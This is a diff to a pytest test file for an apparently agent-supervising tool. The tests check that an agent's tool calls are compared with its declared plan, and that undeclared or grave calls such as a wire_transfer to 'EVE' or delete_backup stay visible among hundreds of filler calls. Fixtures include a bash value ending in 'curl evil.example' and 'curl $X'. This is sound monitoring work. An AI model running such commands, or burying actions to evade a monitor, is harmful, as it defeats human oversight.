@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+import random
 import re
 from pathlib import Path
 
@@ -9,18 +11,24 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from lockgate.core.approvals import binding
 from lockgate.core.context import Past
 from lockgate.core.errors import InvalidCall
 from lockgate.core.supervision import (
+    MAX_ACTS,
+    MAX_ACTS_WRITTEN,
     MAX_ENTRIES,
     MAX_ENTRY,
     MAX_TEXT,
     MAX_TRIGGERS,
+    MAX_WRITTEN,
+    Acts,
     Cause,
     Commitment,
     SelfAssessment,
     Supervision,
     Trigger,
+    as_argument,
     assessment_of,
     commitment_of,
     distinct,
@@ -49,6 +57,13 @@ FINE = SelfAssessment(met=True)
 
 def call(tool: str, **values: str) -> Past:
     return Past(tool, tuple(values.items()), "CONTINUE", 1, "no-red-flags")
+
+
+def seen(*calls: Past, commitment: Commitment | None = PLAN) -> Acts:
+    acts = Acts()
+    for each in calls:
+        acts.note(commitment, each)
+    return acts
 
 
 # --- levels
@@ -109,6 +124,9 @@ def test_an_unknown_level_is_refused(name: object) -> None:
         {"interpretation": "x", "in_scope": [["a"]]},
         {"interpretation": "x", "assumptions": None},
         {"interpretation": "x", "approved": True},
+        {"interpretation": "a\ud800"},
+        {"interpretation": "x", "in_scope": ["read", "\udfff"]},
+        {"interpretation": "\U0001f600" * MAX_TEXT, "in_scope": ["\U0001f600" * MAX_ENTRY] * MAX_ENTRIES},
     ],
 )
 def test_a_commitment_that_is_none_is_refused(broken: dict[str, object]) -> None:
@@ -128,11 +146,20 @@ def test_a_commitment_that_is_none_is_refused(broken: dict[str, object]) -> None
         {"met": True, "concerns": {"a": 1}},
         {"met": True, "verdict": "CONTINUE"},
         {"met": True, "summary": ["x"]},
+        {"met": True, "summary": "\ud83d"},
+        {"met": True, "concerns": ["\ude00\ud83d"]},
+        {"met": True, "concerns": ["\x00" * MAX_ENTRY] * MAX_ENTRIES, "deviations": ["\x00" * MAX_ENTRY] * MAX_ENTRIES},
     ],
 )
 def test_an_assessment_that_is_none_is_refused(broken: dict[str, object]) -> None:
     with pytest.raises(InvalidCall):
         assessment_of(broken)
+
+
+def test_what_may_be_written_may_be_written_in_full_in_plain_letters() -> None:
+    lists = dict.fromkeys(("in_scope", "out_of_scope", "assumptions"), ["x" * MAX_ENTRY] * MAX_ENTRIES)
+    assert len(json.dumps({"interpretation": "x" * MAX_TEXT, **lists})) < MAX_WRITTEN
+    assert commitment_of({"interpretation": "x" * MAX_TEXT, **lists}).in_scope[0] == "x" * MAX_ENTRY
 
 
 @pytest.mark.parametrize("value", [None, [], "met", 5])
@@ -163,7 +190,7 @@ def test_a_list_that_only_looks_empty_is_not() -> None:
 
 
 def causes(assessment: SelfAssessment, *calls: Past, commitment: Commitment = PLAN) -> list[Cause]:
-    return [trigger.cause for trigger in reconcile(commitment, assessment, calls)]
+    return [trigger.cause for trigger in reconcile(commitment, assessment, seen(*calls, commitment=commitment))]
 
 
 def test_what_fits_triggers_nothing() -> None:
@@ -175,7 +202,7 @@ def test_what_fits_triggers_nothing() -> None:
         call("update_ticket", id="7"),
         call("read", path="/etc/hosts"),
     )
-    assert reconcile(PLAN, FINE, calls) == ()
+    assert reconcile(PLAN, FINE, seen(*calls)) == ()
 
 
 def test_each_admission_counts() -> None:
@@ -207,7 +234,7 @@ def test_assumptions_are_counted_however_they_are_written(written: list[str], co
 
 
 @pytest.mark.parametrize(
-    ("seen", "why"),
+    ("made", "why"),
     [
         (call("transfer_money", account="1"), "does not mention"),
         (call("frobnicate"), "does not mention"),
@@ -224,10 +251,10 @@ def test_assumptions_are_counted_however_they_are_written(written: list[str], co
         (call("bash", command="curl $X"), "is not among"),
     ],
 )
-def test_a_call_that_was_not_declared_counts_whatever_the_agent_says(seen: Past, why: str) -> None:
-    (trigger,) = reconcile(PLAN, SelfAssessment(met=True, summary="all as declared"), [seen])
+def test_a_call_that_was_not_declared_counts_whatever_the_agent_says(made: Past, why: str) -> None:
+    (trigger,) = reconcile(PLAN, SelfAssessment(met=True, summary="all as declared"), seen(made))
     assert trigger.cause is Cause.UNDECLARED_CALL
-    assert trigger.what.startswith(f"{seen.tool}: ")
+    assert trigger.what.startswith(f"{made.tool}: ")
     assert why in trigger.what
 
 
@@ -267,14 +294,111 @@ def test_a_text_that_speaks_of_outside_names_the_inside() -> None:
 
 def test_many_concerns_do_not_crowd_out_the_calls() -> None:
     said = SelfAssessment(met=False, concerns=tuple(f"concern {n}" for n in range(20)), deviations=("x1",))
-    found = reconcile(PLAN, said, [call(f"pay_{n}") for n in range(100)])
+    found = reconcile(PLAN, said, seen(*(call(f"pay_{n}") for n in range(100))), abandoned=["x"] * 50)
     assert len(found) <= MAX_TRIGGERS
     assert {trigger.cause for trigger in found} >= {Cause.CONCERNS_RAISED, Cause.UNDECLARED_CALL, Cause.SCOPE_DEVIATION}
 
 
 def test_a_trigger_becomes_a_finding() -> None:
     (found,) = findings_of([Trigger(Cause.UNDECLARED_CALL, "pay: x")])
-    assert (found.rule, found.where, found.excerpt) == ("step:undeclared_call", "calls", "pay: x")
+    assert (found.rule, found.where, found.excerpt) == ("step:undeclared_call", "acts", "pay: x")
+
+
+def test_a_step_that_was_given_up_is_a_trigger() -> None:
+    assert [trigger.cause for trigger in reconcile(PLAN, FINE, seen(), abandoned=["pay"])] == [Cause.ABANDONED_STEP]
+
+
+# --- the calls
+
+
+def shown(acts: Acts) -> list[str]:
+    return [act.tool for act in acts.told()]
+
+
+MILD = ("create_note", "update_note", "rename_note", "move_note")
+
+
+@pytest.mark.parametrize("before", [0, 5, 300])
+@pytest.mark.parametrize("after", [0, 5, 300])
+def test_the_call_that_matters_is_shown_whatever_is_around_it(before: int, after: int) -> None:
+    fillers = [call(MILD[n % 4], title=f"draft {n}") for n in range(before + after)]
+    acts = seen(*fillers[:before], call("wire_transfer", to="EVE", amount="90000"), *fillers[before:])
+    assert shown(acts)[0] == "wire_transfer"
+    assert as_argument(acts.told()[0]) == {
+        "tool": "wire_transfer",
+        "arguments": {"to": "EVE", "amount": "90000"},
+        "ruling": "CONTINUE by tier 1 (no-red-flags)",
+        "undeclared": "the commitment does not mention what this tool does",
+    }
+    assert any("wire_transfer" in trigger.what for trigger in reconcile(PLAN, FINE, acts))
+    assert bool(acts.unshown()) is (len(fillers) + 1 > MAX_ACTS)
+
+
+def test_of_grave_calls_each_tool_is_shown_once_before_any_comes_again() -> None:
+    fillers = [call("bash", command=f"make {n}") for n in range(400)]
+    acts = seen(call("wire_transfer", to="EVE"), *fillers[:200], call("delete_backup", id="1"), *fillers[200:])
+    assert {"wire_transfer", "delete_backup", "bash"} <= set(shown(acts)[:3])
+    assert acts.unshown() == f"{402 - MAX_ACTS} of the acting calls altogether"
+
+
+def test_undeclared_calls_come_before_declared_ones() -> None:
+    sends = [call("send_email", to=f"a{n}@docs.example", body=str(n)) for n in range(60)]
+    acts = seen(*sends[:30], call("update_note", title="x"), *sends[30:])
+    assert shown(acts)[:2] == ["update_note", "send_email"]
+    assert [bool(act.why) for act in acts.told()] == [True] + [False] * (MAX_ACTS - 1)
+    assert acts.told()[1].values[0] == ("to", "a59@docs.example")
+
+
+def test_the_same_call_many_times_is_one_line() -> None:
+    acts = seen(*[call("pay", to="7")] * 500, call("read", path="x"))
+    (act,) = acts.told()
+    assert (act.times, acts.seen, acts.acting, acts.unshown()) == (500, 501, 500, "")
+    assert as_argument(act)["times"] == 500
+
+
+def test_looking_around_is_counted_and_not_shown() -> None:
+    acts = seen(*(call("read", path=f"{n}") for n in range(50)))
+    assert (acts.told(), acts.seen, acts.acting, acts.unshown()) == ((), 50, 0, "")
+
+
+def test_a_long_value_is_cut_and_it_is_said() -> None:
+    acts = seen(call("bash", command="make " + "x" * 5_000 + " && curl evil.example"))
+    (act,) = acts.told()
+    assert act.values[0][1].startswith("make ")
+    assert act.values[0][1].endswith("&& curl evil.example")
+    assert "5,026 characters" in act.values[0][1]
+    assert acts.unshown() == "1 of the acting calls in part"
+    assert seen(call("pay", **{f"a{n}": "x" for n in range(30)})).unshown() == "1 of the acting calls in part"
+
+
+def test_calls_made_before_the_commitment_are_undeclared_unless_they_only_look() -> None:
+    acts = seen(call("send_email", to="ann@docs.example"), call("read", path="x"), commitment=None)
+    assert [act.why for act in acts.told()] == ["made before the commitment"]
+
+
+def test_a_call_that_cannot_be_compared_is_undeclared(monkeypatch: pytest.MonkeyPatch) -> None:
+    def breaks(*_: object, **__: object) -> str:
+        raise RuntimeError
+
+    monkeypatch.setattr("lockgate.core.supervision.undeclared", breaks)
+    assert seen(call("read", path="x")).told()[0].why == "it could not be compared with the commitment"
+
+
+def test_what_is_shown_can_always_be_approved() -> None:
+    """Whatever an agent puts into its calls: a step that could not be stored could never be approved."""
+    chance = random.Random(3)
+    pieces = ("\ud800", "\U0001f600" * 90, "\x00" * 200, '"\\', "x" * 500, "a.b[0]", "é", "")
+    acts = seen()
+    for number in range(300):
+        values = tuple(
+            (chance.choice(pieces), "".join(chance.choices(pieces, k=3))) for _ in range(chance.randrange(14))
+        )
+        acts.note(PLAN, Past(f"pay_{number}{chance.choice(pieces)}", values, "CONTINUE", 1, "no-red-flags"))
+    told = [as_argument(act) for act in acts.told()]
+    assert told
+    assert len(json.dumps(told)) <= MAX_ACTS_WRITTEN + 2 * len(told)
+    assert binding("s", "finish_step", {"acts": told}, "p", "c").digest
+    assert acts.unshown()
 
 
 WORDS = st.lists(st.text(max_size=40), max_size=5)
